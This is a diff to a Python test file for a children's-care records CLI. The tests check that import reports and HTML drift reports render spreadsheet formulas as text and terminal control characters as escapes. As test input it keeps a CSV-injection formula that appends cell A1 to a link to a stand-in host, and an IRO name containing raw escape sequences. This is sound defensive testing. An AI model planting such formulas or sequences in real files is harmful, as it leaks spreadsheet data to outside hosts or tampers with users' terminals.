@@ -19,6 +19,7 @@ import csv
 import io
 import json
 from dataclasses import replace
+from datetime import date
 from pathlib import Path
 
 import pytest
@@ -29,6 +30,7 @@ from cli.safe_text import FORMULA_START
 from projections.chronology import Chronology, Row
 from tests.returns903 import YEAR, episode, header, write_return
 from tests.test_import_903_restatements import import_903
+from tests.test_input_boundary import store_below_the_boundary
 from tests.test_integrity import COUNCIL, FIRST, invoke, ok, record_two_children
 
 HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"see the plan")'
@@ -146,7 +148,8 @@ def test_an_imports_refused_rows_report_shows_a_formula_as_text(
     ok(import_903(sqlite_db, directory, YEAR, "--accept-partial", "--report", report))
 
     rows = list(csv.DictReader(io.StringIO(report.read_text(encoding="utf-8"))))
-    assert [row["child"] for row in rows] == ["'" + child]
+    # its Header and Episodes rows: a CHILD that is no child's id is refused, shown as text
+    assert [row["child"] for row in rows] == ["'" + child] * 2
     no_formula([cell for row in rows for cell in row.values()])
 
 
@@ -169,14 +172,17 @@ def test_an_error_shows_control_characters_as_escapes(ledger: str) -> None:
 def test_the_drift_report_in_html_shows_control_characters_as_escapes(
     ledger: str, tmp_path: Path
 ) -> None:
-    """An IRO's name recorded with a terminal's sequences in it, and the report printed."""
-    ok(
-        invoke(
-            "record", "--db", ledger, "--type", "IROAllocated", "--council", COUNCIL,
-            "--child", FIRST, "--set", "occurred_on=2025-07-01", "--set", "source=LCS/2",
-            "--set", "iro_id=IRO-10", "--set", f"iro_name=Helen {ESCAPES}",
-        )
-    )  # fmt: skip
+    """An IRO's name with a terminal's sequences in it, held by a ledger recorded before
+    such input was refused, and the report printed."""
+    store_below_the_boundary(
+        ledger,
+        FIRST,
+        COUNCIL,
+        source="LCS/2",
+        iro_id="IRO-10",
+        iro_name=f"Helen {ESCAPES}",
+        occurred_on=date(2025, 7, 1),
+    )
     shown = ok(invoke("drift", "--db", ledger, "--by", "iro", "--format", "html")).stdout
     assert not [c for c in RAW if c in shown]
     assert "Helen \\x1b[31mred" in shown
